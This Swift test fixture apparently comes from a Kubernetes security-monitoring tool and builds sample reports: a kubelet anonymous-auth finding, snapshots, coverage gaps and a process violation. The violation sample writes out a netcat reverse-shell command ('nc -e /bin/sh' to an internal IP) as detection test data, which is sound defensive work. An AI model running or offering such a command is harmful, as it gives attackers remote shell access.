import Posture

/// One report of each kind that the journal knows.
enum ExampleReports {
    static let time: Int64 = 1_795_454_069_589

    static func finding(
        _ kind: FindingChange.Kind, message: String = "anonymous requests are allowed"
    ) -> Report.Subject {
        let path = FactPath(fields: ["node", "kubelet", "x"])
        let fact = Fact(.bool(true), from: .file(path: "/var/lib/kubelet/config.yaml", line: 4))
        return .finding(
            FindingChange(
                kind: kind,
                finding: Finding(
                    control: "kubelet-anonymous-auth", title: "The kubelet refuses strangers",
                    severity: .critical, status: kind == .fixed ? .pass : .fail, message: message,
                    evidence: [Finding.Evidence(path: path, fact: fact)],
                    remediation: "Turn it off.", references: ["cis-1.12/4.2.1"]),
                firstSeen: time, lastSeen: time))
    }

    static func violation(_ change: (inout ProcessStart) -> Void = { _ in }) -> Report.Subject {
        var start = ProcessStart()
        start.id = "1795454069.589:8"
        start.pid = 4_711
        start.path = Array("/usr/bin/nc".utf8)
        start.arguments = ["nc", "-e", "/bin/sh", "10.0.0.1"].map { Array($0.utf8) }
        start.ancestors = [.init(pid: 1, path: Array("/sbin/init".utf8))]
        var container = Container(id: "0123abcd")
        container.pod = .init(name: "web-1", namespace: "shop")
        container.image = "registry/web:1"
        start.place = .container(container)
        change(&start)
        return .violation(
            Violation(start: start, severity: .high, alarm: "reverse-shell", reason: "a shell"))
    }

    static var all: [Report.Subject] {
        let key = ViolationKey(rule: "r", alarm: nil, start: ProcessStart())
        var flood = SuppressedViolations(first: time, last: time)
        flood.add(12, .high, key, at: time)
        return FindingChange.Kind.allCases.map { finding($0) } + [
            .snapshot(
                FindingSnapshot(
                    counts: [.pass: 3, .fail: 1], failures: [.high: 1], score: 82, digest: "ab",
                    open: [.init(control: "c", status: .fail, severity: .high)])),
            violation(),
            .repeatedViolation(
                ViolationSummary(
                    key: key, severity: .high, first: time, last: time + 5_000, count: 7,
                    untold: 6, pids: [1, 2])),
            .suppressedViolations(flood),
            .gap(CoverageGap(.kernelLost, start: time, end: time + 10, count: 5, unit: .records)),
            .loss(
                ReportLoss(
                    cause: .evicted, priority: .state, count: 5, sequences: 1...5, first: time,
                    last: time)),
        ]
            + AgentEvent.Kind.allCases.map {
                .agent(AgentEvent(kind: $0, message: "so it is", details: [.init("a", "b")]))
            }
    }
}
